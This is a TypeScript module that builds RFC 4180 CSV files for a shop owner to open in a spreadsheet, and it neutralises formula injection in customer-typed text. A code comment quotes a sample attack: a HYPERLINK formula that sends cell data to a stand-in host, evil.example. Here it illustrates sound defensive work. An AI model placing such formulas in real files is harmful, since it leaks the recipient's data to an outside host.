// CSV as RFC 4180 writes it, for the files the owner downloads and opens in a spreadsheet:
// records end in CRLF; a field holding a comma, a double quote, a CR or an LF goes in double
// quotes, its quotes doubled. The file starts with a UTF-8 byte-order mark: without it Excel
// reads the bytes as the machine's legacy code page and Khmer comes out as mojibake.

export const BOM = "\uFEFF";

/** A cell: text, a number, or nothing (an empty field). */
export type CsvValue = string | number | null | undefined;

const NEEDS_QUOTES = /[",\r\n]/;

/**
 * Formula injection: a spreadsheet program takes a cell starting with `=`, `+`, `-` or `@` (and
 * a tab or CR before one) as a formula and runs it when the file is opened, so a customer could
 * type `=HYPERLINK("https://evil.example/?"&A1, "Click")` as their name and have the owner's
 * machine send data away or run a command (DDE). Such text gets a leading `'`, which makes the
 * cell plain text; the field is quoted too, so the apostrophe is plainly part of the value.
 * Numbers are ours (ids, amounts), never typed by anyone, so they pass as they are.
 */
const FORMULA_START = /^[=+\-@\t\r]/;

const quoted = (text: string) => `"${text.replaceAll('"', '""')}"`;

export function csvField(value: CsvValue): string {
  if (value === null || value === undefined) return "";
  if (typeof value === "number") return String(value);
  if (FORMULA_START.test(value)) return quoted(`'${value}`);
  return NEEDS_QUOTES.test(value) ? quoted(value) : value;
}

/** One record, its CRLF included. */
export const csvRecord = (values: readonly CsvValue[]): string => `${values.map(csvField).join(",")}\r\n`;
